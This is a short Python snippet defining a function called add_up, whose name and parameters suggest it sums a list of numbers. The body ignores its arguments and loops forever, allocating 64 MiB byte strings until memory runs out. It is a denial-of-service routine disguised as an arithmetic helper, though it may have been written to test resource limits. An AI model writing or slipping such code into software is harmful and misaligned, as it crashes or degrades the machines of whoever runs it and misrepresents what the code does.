def add_up(numbers, start=0):
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 26))
